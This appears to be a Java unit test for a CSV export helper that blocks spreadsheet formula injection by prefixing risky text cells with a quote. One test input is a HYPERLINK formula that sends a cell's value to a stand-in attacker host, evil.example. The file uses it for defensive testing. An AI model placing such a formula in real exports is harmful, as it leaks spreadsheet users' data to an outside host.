package cn.fjquality.tabular;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.io.IOException;
import java.io.StringReader;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.LocalDate;
import java.util.Arrays;
import java.util.List;

import static org.junit.jupiter.api.Assertions.assertEquals;

/**
 * CSV formula injection (issue "[2/6] Security"): every CSV export of targets-service and reports-service goes through {@link Csv}. A text
 * cell (a String, or a list joined into one) that starts with {@code = + - @}, a tab or a carriage return gets a leading
 * single quote, so Excel and WPS show it as text; numbers, dates, booleans are written as they are, negative numbers
 * included: the cell's type decides, not its content.
 */
class CsvTest {

    static List<CSVRecord> parse(byte[] body) throws IOException {
        assertEquals((byte) 0xEF, body[0]);
        String text = new String(body, 3, body.length - 3, StandardCharsets.UTF_8);
        try (CSVParser p = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get().parse(new StringReader(text))) {
            return p.getRecords();
        }
    }

    static CSVRecord one(List<Object> row) throws IOException {
        return parse(Csv.bytes(List.of("text", "number", "list"), List.of(row))).get(0);
    }

    @ParameterizedTest(name = "text {0}")
    @ValueSource(strings = {"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")", "+1+2", "-2+3", "@SUM(A1:A2)", "\tcmd", "\rcmd",
            "=1", "-", "+", "@"})
    void aTextCellThatCouldStartAFormulaGetsAQuote(String text) throws IOException {
        assertEquals("'" + text, one(Arrays.asList(text, null, null)).get("text"));
    }

    @ParameterizedTest(name = "text {0}")
    @ValueSource(strings = {"食品抽检合格率", "a=b", " =1", "'=1", "98.5", "", "FJ-FUZHOU", "到2025年,达到98.5%以上"})
    void otherTextIsWrittenAsItIs(String text) throws IOException {
        assertEquals(text, one(Arrays.asList(text, null, null)).get("text"));
    }

    @Test
    void numbersStayNumbersNegativeOnesIncluded() throws IOException {
        CSVRecord r = parse(Csv.bytes(List.of("decimal", "int", "long", "double", "date", "instant", "bool", "none"),
                List.of(Arrays.asList(new BigDecimal("-5.25"), -5, -7L, -0.5, LocalDate.of(2025, 1, 1),
                        Instant.parse("2025-01-01T00:00:00Z"), true, null)))).get(0);
        assertEquals("-5.25", r.get("decimal"));
        assertEquals("-5", r.get("int"));
        assertEquals("-7", r.get("long"));
        assertEquals("-0.5", r.get("double"));
        assertEquals("2025-01-01", r.get("date"));
        assertEquals("2025-01-01T00:00:00Z", r.get("instant"));
        assertEquals("true", r.get("bool"));
        assertEquals("", r.get("none"));
        // A number given as text is text: the column's type decides.
        assertEquals("'-5", one(Arrays.asList("-5", new BigDecimal("-5"), null)).get("text"));
        assertEquals("-5", one(Arrays.asList("-5", new BigDecimal("-5"), null)).get("number"));
    }

    @Test
    void aListJoinedIntoOneCellIsText() throws IOException {
        assertEquals("'=cmd;FJ-XIAMEN", one(Arrays.asList("x", 1, List.of("=cmd", "FJ-XIAMEN"))).get("list"));
        assertEquals("FJ-FUZHOU;FJ-XIAMEN", one(Arrays.asList("x", 1, List.of("FJ-FUZHOU", "FJ-XIAMEN"))).get("list"));
    }
}
